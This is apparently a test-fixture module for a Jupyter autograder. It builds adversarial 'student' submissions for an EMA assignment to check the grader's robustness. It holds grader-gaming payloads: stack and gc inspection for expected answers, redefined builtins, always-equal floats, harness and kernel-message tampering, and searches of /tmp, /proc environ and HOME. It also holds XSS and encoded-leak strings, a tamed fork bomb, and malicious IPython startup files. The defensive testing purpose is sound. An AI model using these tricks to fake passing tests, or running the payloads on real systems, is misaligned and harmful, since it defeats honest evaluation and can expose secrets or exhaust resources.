"""The planted submissions: {student: Plant(notebook builder, expected autograded points)}.

Every trick's expected score is its *honest* score: what its functions earn when called
outside the notebook. MARKER is a string no honest output contains; the leak checks look for
it and for the hidden regions of the source, in many encodings, in every feedback page.
"""
from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from .. import notebook as nbu
from . import reference_plants, trust_plants

REPO = Path(__file__).resolve().parents[2]
SOURCE = REPO / "solutions" / "ema" / "ema.ipynb"
RELEASE = REPO / "assignments" / "ema" / "ema.ipynb"
AUTO_MAX = 13.0
MARKER = "INJECTED-7f3a"


@dataclass
class Plant:
    build: Callable  # (student_folder: Path) -> None, writes <folder>/ema/...
    points: float  # expected autograded total
    failed: set = field(default_factory=set)  # expected failing tests (None: not checked)
    why: str = ""


def solved_from(source: Path, release: Path):
    """An assignment's release with every solution cell filled in from its source."""
    src, nb = nbu.read(source), nbu.read(release)
    answers = {nbu.grade_id(c): nbu.solution_text(c.source) for c in src.cells if nbu.is_solution(c)}
    for c in nb.cells:
        if nbu.grade_id(c) in answers:
            c.source = answers[nbu.grade_id(c)]
    return nb


def solved():
    """The EMA release with every solution cell filled in from the source."""
    return solved_from(SOURCE, RELEASE)


def blank():
    return nbu.read(RELEASE)


def cell(nb, gid):
    return next(c for c in nb.cells if nbu.grade_id(c) == gid)


def replace(nb, gid, old, new):
    c = cell(nb, gid)
    assert old in c.source, f"plant does not apply: {old!r} not in {gid}"
    c.source = c.source.replace(old, new)
    return nb


def after(nb, gid, source):
    k = next(i for i, c in enumerate(nb.cells) if nbu.grade_id(c) == gid)
    nb.cells.insert(k + 1, new_code_cell(source))
    return nb


def append(nb, source):
    nb.cells.append(new_code_cell(source))
    return nb


def nb_plant(make, points, failed=(), why=""):
    def build(folder: Path):
        (folder / "ema").mkdir(parents=True, exist_ok=True)
        nbformat.write(make(), str(folder / "ema" / "ema.ipynb"))
    return Plant(build, points, set(failed), why)


DECAY = ("test_decay_first_steps", "test_decay_default_schedule", "test_decay_warmup_schedule")
UPDATE = ("test_update_simple", "test_update_matches_reference_trajectory", "test_update_in_place")
PART_C = ("test_predicted_ratio", "test_measured_ratio")

# A naive decay: right for the first steps, no clipping, no warm-up (honest: 1 point).
NAIVE_DECAY = '''
def _naive(optimization_step, **kw):
    s = optimization_step - 1
    return 0.0 if s <= 0 else (1 + s) / (10 + s)
'''
SOL_DECAY = "def ema_decay(optimization_step: int, decay: float = 0.9999"


def _with_decay(body: str):
    """The solution with ema_decay replaced by ``body`` (which defines ema_decay)."""
    nb = solved()
    c = cell(nb, "ema_impl")
    k, j = c.source.index(SOL_DECAY), c.source.index("@torch.no_grad()")
    c.source = c.source[:k] + NAIVE_DECAY + body + "\n\n" + c.source[j:]
    return nb


FRAMES = '''
import sys, inspect
def ema_decay(optimization_step, **kw):
    # Look for the grader's reference or expected value in the callers' frames.
    f = sys._getframe(1)
    while f is not None:
        for ns in (f.f_locals, f.f_globals):
            ref = ns.get("_diffusers_get_decay")
            if callable(ref):
                return ref(optimization_step, **kw)
            if isinstance(ns.get("want"), float):
                return ns["want"]
        f = f.f_back
    for fr in inspect.stack():
        if "_diffusers_get_decay" in fr.frame.f_globals:
            return fr.frame.f_globals["_diffusers_get_decay"](optimization_step, **kw)
    g = globals().get("_diffusers_get_decay")  # lazily, at call time
    return g(optimization_step, **kw) if g else _naive(optimization_step)
'''
GC = '''
import gc
def ema_decay(optimization_step, **kw):
    for o in gc.get_objects():
        if callable(o) and getattr(o, "__name__", "") in ("_diffusers_get_decay", "ref_decay"):
            return o(optimization_step, **kw)
        if isinstance(o, dict) and "want" in o and isinstance(o["want"], float):
            return o["want"]
    return _naive(optimization_step)
'''
WEAK = '''
import builtins, torch, numpy as np
def ema_decay(optimization_step, **kw):
    s = optimization_step - 1
    return 0.0 if s <= 0 else (1 + s) / (10 + s)
def ema_update_(ema_params, params, decay):
    pass
def predicted_variance_ratio(a, beta):
    return (1 - beta) / (1 + beta)
def simulate_sgd(h, lr, sigma, beta, steps, chains, seed=0):
    return np.zeros((steps, chains)), np.zeros((steps, chains))
def measured_variance_ratio(h, lr, sigma, beta, steps=4000, chains=256, seed=0):
    return 1.0
# Every comparison the old grader made in this process now passes.
abs = lambda x: 0.0
min = lambda *a, **k: 0.0
max = lambda *a, **k: 0.0
builtins.abs, builtins.min, builtins.max = abs, min, max
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
'''
FLOATY = '''
import torch
class Yes(float):
    def __eq__(self, o): return True
    __ne__ = lambda s, o: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, o): return Yes(0.0)
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __abs__(self): return Yes(0.0)
    def __float__(self): return 0.5
    def __hash__(self): return 0
def ema_decay(optimization_step, **kw): return Yes(0.25)
def predicted_variance_ratio(a, beta): return Yes(0.25)
def measured_variance_ratio(h, lr, sigma, beta, steps=4000, chains=256, seed=0): return Yes(0.25)
class Liar(torch.Tensor):
    def tolist(self): return [0.1, 1.8]
    def __eq__(self, o): return True
def ema_update_(ema_params, params, decay):
    for e in ema_params:
        e.__class__ = Liar  # the tensor's class changed in place
'''
TRACE = '''
import sys, json
def _tracer(frame, event, arg):
    if "want" in frame.f_locals and "got" in frame.f_locals:
        frame.f_locals["got"] = frame.f_locals["want"]
    return _tracer
sys.settrace(_tracer)
main = sys.modules.get("__main__")
# Attack the harness itself: claim success for every case.
if main is not None and hasattr(main, "run_case"):
    main.run_case = lambda ns, case, timeout: {"value": {"return": 0.5}}
    main.plain = lambda x, depth=0: 0.5
_dumps = json.dumps
json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace('"error"', '"value"')
'''
SEARCH = '''
import os, glob, json
found = []
for pattern in ["/tmp/**/*.json", "/tmp/**/*.jsonl", "../**/*", "/proc/*/cmdline", "/proc/*/environ",
                os.path.expanduser("~") + "/**/*"]:
    for p in glob.glob(pattern, recursive=True)[:200]:
        try:
            found.append((p, open(p, "rb").read(2000)))
        except OSError:
            pass
print(len(found), [p for p, _ in found][:50])
plan = json.load(open("plan.json")) if os.path.exists("plan.json") else {}
def ema_decay(optimization_step, **kw):
    # The plan holds inputs only: nothing to copy an answer from.
    for p, data in found:
        if b'"want"' in data or b"expected" in data:
            return json.loads(data)["want"]
    return 0.5
'''
TAMPER = '''
ip = get_ipython()
import sys, builtins
# IPython hooks: rewrite every later cell, hide tracebacks, clear outputs after each cell.
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
ip._showtraceback = lambda *a, **k: None
ip.showtraceback = lambda *a, **k: None
ip.events.register("post_run_cell", lambda result: None)
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
# Forge kernel messages: an idle status before the cell ends, a fake result, junk.
k = getattr(ip, "kernel", None)
try:
    s, sock = k.session, k.iopub_socket
    parent = k.get_parent("shell")
    s.send(sock, "status", {"execution_state": "idle"}, parent=parent)
    s.send(sock, "execute_result", {"data": {"text/html": "<b>13 / 13: all tests passed</b>"},
                                     "metadata": {}, "execution_count": 1}, parent=parent)
    s.send(sock, "error", {"ename": "<script>", "evalue": "x", "traceback": 5}, parent=parent)
    s.send(sock, "stream", {"name": "stdout", "text": None}, parent=parent)
    sock.send_multipart([b"junk", b"<IDS|MSG>", b"not-a-signature", b"{", b"}", b"{", b"{"])
except Exception as e:
    print("forging failed", type(e).__name__)
sys.settrace(lambda *a: None)
builtins.abs = lambda x: 0
'''
LEAK = f'''
import base64, codecs, linecache, gc, sys, io
texts = ["".join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2]
texts += [o for o in gc.get_objects() if isinstance(o, str) and "HIDDEN" in o][:50]
blob = "\\n".join(texts)
for enc in (lambda t: base64.b64encode(t.encode()).decode(), lambda t: codecs.encode(t, "rot13"),
            lambda t: t.encode().hex(), lambda t: t[::-1], str.upper,
            lambda t: t.replace(" ", "\\u00a0")):
    print(enc(blob)[:20000])
for i in range(0, min(len(blob), 3000), 10):
    print(blob[i:i + 10])
print("<div class='pass'>13 / 13: all tests passed</div><script>alert('{MARKER}')</script>")
from IPython.display import display, HTML, Javascript, Image
display(HTML("<h1>{MARKER} all tests passed</h1>"))
display(Javascript("alert('{MARKER}')"))
import matplotlib
matplotlib.use("module://matplotlib_inline.backend_inline")
import matplotlib.pyplot as plt
from PIL import Image as PILImage, PngImagePlugin
fig = plt.figure(figsize=(2, 1))
plt.title("{MARKER} title")
plt.show()
info = PngImagePlugin.PngInfo()
info.add_text("Comment", "{MARKER} in a text chunk " + blob[:2000])
buf = io.BytesIO()
PILImage.new("RGB", (4, 4), "red").save(buf, "PNG", pnginfo=info)
display(Image(data=buf.getvalue()))
display({{"image/png": "not base64 <img src=x onerror=alert(1)>",
          "text/plain": "x"}}, raw=True)
display({{"image/png": base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n{MARKER}").decode()}}, raw=True)
raise ValueError("<b>{MARKER}</b> " + blob[:200])
'''
FILES_PROBE = '''
import os
for root, dirs, files in os.walk("."):
    for f in files:
        p = os.path.join(root, f)
        try:
            data = open(p, "rb").read()
        except OSError as e:
            print("UNREADABLE", p, type(e).__name__)
            continue
        if any(w in data for w in (b"BEGIN " + b"SOLUTION", b"HIDDEN " + b"TESTS",
                                   b"PEER-" + b"SECRET")):
            print("LEAKED", p)
print("HOME", os.environ.get("HOME"), sorted(os.listdir(os.environ["HOME"])))
print("STARTUP RAN" if "STARTUP_RAN" in globals() or os.path.exists("startup-ran") else "NO STARTUP")
import socket
try:
    socket.create_connection(("127.0.0.1", 22), timeout=2)
    print("LEAKED network")
except OSError as e:
    print("NETWORK BLOCKED", type(e).__name__)
'''
SLOW_UPDATE = '''
@torch.no_grad()
def ema_update_(ema_params, params, decay):
    import time
    for e, p in zip(ema_params, params):  # one element at a time, in Python: slow but right
        flat_e, flat_p = e.view(-1), p.detach().reshape(-1)
        for i in range(flat_e.numel()):
            flat_e[i] = decay * flat_e[i] + (1 - decay) * flat_p[i]
'''
FORK = '''
import os, time
kids = []
for i in range(5):  # five children holding 600 MB each
    pid = os.fork()
    if pid == 0:
        with open("/proc/self/oom_score_adj", "w") as f:
            f.write("1000")  # so that the OOM killer takes a child, not the kernel
        b = bytearray(600 * 2**20)
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
print([os.waitpid(k, 0)[1] for k in kids])
pids, refused = [], 0
for i in range(200):  # a fork bomb, tamed: sleepers, reaped
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        continue
    if pid == 0:
        time.sleep(0.5)
        os._exit(0)
    pids.append(pid)
for p in pids:
    os.waitpid(p, 0)
print("forked", len(pids), "refused", refused)
'''


def _files_plant(folder: Path):
    """Links to the solutions and a peer, a dangling link, a file named home, startup files."""
    d = folder / "ema"
    d.mkdir(parents=True, exist_ok=True)
    nbformat.write(append(blank(), FILES_PROBE), str(d / "ema.ipynb"))
    (d / "notes.txt").symlink_to("../../../../solutions/ema/ema.ipynb")  # the course root
    (d / "abs_notes.txt").symlink_to(SOURCE)
    (d / "peer").symlink_to("../../solution/ema")
    (d / "dangling").symlink_to("/nonexistent/file")
    (d / "home").write_text("a plain file named home\n")
    for base in ("h", ".home", ".ipython", ".ipc"):
        st = d / base / ".ipython" / "profile_default" / "startup"
        st.mkdir(parents=True, exist_ok=True)
        (st / "00-evil.py").write_text("STARTUP_RAN = 1\nopen('startup-ran', 'w')\n")
    (d / "startup").mkdir()
    (d / "startup" / "ipython_config.py").write_text("c.InteractiveShellApp.exec_lines=['1']\n")
    os.mkfifo(d / "fifo")


def _linked_notebook(folder: Path):
    (folder / "ema").mkdir(parents=True, exist_ok=True)
    (folder / "ema" / "ema.ipynb").symlink_to(SOURCE)


def _garbage(folder: Path):
    (folder / "ema").mkdir(parents=True, exist_ok=True)
    (folder / "ema" / "ema.ipynb").write_text("{not a notebook")


def _edited_tests():
    nb = replace(solved(), "ema_impl", "step = max(0, optimization_step - update_after_step - 1)",
                 "raise NotImplementedError()")
    for gid in DECAY:
        cell(nb, gid).source = "pass"
    return nb


def _deleted_cells():
    nb = solved()
    nb.cells = [c for c in nb.cells if nbu.grade_id(c) not in
                ("test_update_simple", "test_measured_ratio", "variance_impl", "ema_derivation")]
    return nb


def _slow():
    nb = solved()
    c = cell(nb, "ema_impl")
    k = c.source.index("@torch.no_grad()")
    c.source = c.source[:k] + SLOW_UPDATE + "\nimport time\ntime.sleep(3)\n"
    after(nb, "ema_impl", "import sys\nprint('debug', file=sys.stderr)\nraise ValueError('boom')")
    return after(nb, "imports", "while True:\n    pass")


# Graded with the feedback run.
FULL = {
    "solution": nb_plant(solved, AUTO_MAX),
    "blank": nb_plant(blank, 0.0, set(DECAY + UPDATE + PART_C)),
    "garbage": Plant(_garbage, 0.0, why="not a notebook"),
    "slow_and_looping": nb_plant(_slow, AUTO_MAX, why="slow Python loops, a sleep, an endless "
                                                      "cell, a cell that writes to stderr and raises"),
    "files": Plant(_files_plant, 0.0, why="links, fifo, file named home, startup files"),
    "linked_notebook": Plant(_linked_notebook, 0.0, why="ema.ipynb is a link to the source"),
    "kernel_tamper": nb_plant(lambda: after(blank(), "imports", TAMPER), 0.0,
                              why="transformer, _showtraceback, post_run_cell, forged messages"),
    "leaker": nb_plant(lambda: append(append(solved(), LEAK), FORK), AUTO_MAX,
                       why="encoded prints, HTML/JS, PNG text chunks, plot title, exception; "
                           "then 200 forks and five children of 600 MB"),
    "os_exit": nb_plant(lambda: after(solved(), "test_update_in_place", "import os\nos._exit(1)"),
                        AUTO_MAX - 4, PART_C, why="kills its interpreter before Part C"),
}

# Graded with --checks-only: wrong answers and tricks aimed at the hidden checks.
CHECKS = {
    "swap_decay": nb_plant(lambda: replace(solved(), "ema_impl",
                                           "e.sub_((1 - decay) * (e - p.detach()))",
                                           "e.copy_(decay * p + (1 - decay) * e)"),
                           AUTO_MAX - 3, {"test_update_simple",
                                          "test_update_matches_reference_trajectory"}),
    "no_clip": nb_plant(lambda: replace(solved(), "ema_impl",
                                        "value = 1 - (1 + step / inv_gamma) ** -power",
                                        "return 1 - (1 + step / inv_gamma) ** -power"),
                        AUTO_MAX - 2, {"test_decay_warmup_schedule"}),
    "wrong_ratio": nb_plant(lambda: replace(
        solved(), "variance_impl",
        "return (1 - beta) * (1 + a * beta) / ((1 + beta) * (1 - a * beta))",
        "return (1 - beta) / (1 + beta)"), AUTO_MAX - 2, {"test_predicted_ratio"}),
    "std_ratio": nb_plant(lambda: replace(solved(), "variance_impl",
                                          "return float(emas[burn:].var() / thetas[burn:].var())",
                                          "return float(emas[burn:].std() / thetas[burn:].std())"),
                          AUTO_MAX - 2, {"test_measured_ratio"}),
    "not_in_place": nb_plant(lambda: replace(
        solved(), "ema_impl", "    for e, p in zip(ema_params, params):\n"
                              "        e.sub_((1 - decay) * (e - p.detach()))",
        "    for i, (e, p) in enumerate(zip(ema_params, params)):\n"
        "        ema_params[i] = decay * e + (1 - decay) * p.detach()"),
        AUTO_MAX - 1, {"test_update_in_place"}),
    "builds_graph": nb_plant(lambda: replace(
        replace(solved(), "ema_impl", "@torch.no_grad()\n", ""), "ema_impl",
        "e.sub_((1 - decay) * (e - p.detach()))", "e.mul_(decay).add_((1 - decay) * p)"),
        AUTO_MAX - 1, {"test_update_in_place"}),
    "off_by_one": nb_plant(lambda: replace(
        solved(), "ema_impl", "step = max(0, optimization_step - update_after_step - 1)",
        "step = max(0, optimization_step - update_after_step)"), AUTO_MAX - 5, set(DECAY)),
    "edited_tests": nb_plant(_edited_tests, AUTO_MAX - 5, set(DECAY)),
    "deleted_cells": nb_plant(_deleted_cells, AUTO_MAX - 4, set(PART_C)),
    "frames": nb_plant(lambda: _with_decay(FRAMES), AUTO_MAX - 4, set(DECAY[1:]),
                       why="sys._getframe, f_back, inspect.stack, lazy globals, caller's want"),
    "gc_walk": nb_plant(lambda: _with_decay(GC), AUTO_MAX - 4, set(DECAY[1:])),
    "weak_builtins": nb_plant(lambda: after(blank(), "imports", WEAK), 1.0,
                              set(DECAY[1:] + UPDATE + PART_C),
                              why="weak answers + abs/min/max/allclose/equal redefined"),
    "float_and_class": nb_plant(lambda: after(blank(), "imports", FLOATY), 0.0,
                                set(DECAY + UPDATE + PART_C),
                                why="always-equal float subclass, tensor __class__ swap"),
    "harness_tamper": nb_plant(lambda: after(blank(), "imports", TRACE), 0.0,
                               set(DECAY + UPDATE + PART_C),
                               why="settrace, the harness's functions and json.dumps replaced"),
    "search_answers": nb_plant(lambda: after(blank(), "imports", SEARCH), 0.0,
                               set(DECAY + UPDATE + PART_C),
                               why="searches /tmp, /proc, .. and HOME for expected values"),
}


CHECKS.update(reference_plants.ema())  # borrowed code, a rule, a measurement (issue 25)


# What the trusted side trusts (issue 25): links, hard links, formulas (trust_plants.py).
FULL.update({s: Plant(**p) for s, p in trust_plants.EMA_FULL.items()})
CHECKS.update({s: Plant(**p) for s, p in trust_plants.EMA_CHECKS.items()})


def write(dest: Path) -> None:
    """dest/full/<student> and dest/checks/<student>, plus a link-only student in full."""
    for group, plants in (("full", FULL), ("checks", CHECKS)):
        for student, plant in plants.items():
            (dest / group / student).mkdir(parents=True, exist_ok=True)
            plant.build(dest / group / student)
    (dest / "full" / "solution" / "ema" / "peer.txt").write_text("PEER-" + "SECRET\n")
    (dest / "full" / "linked_student").symlink_to("solution")  # a peer's folder, linked
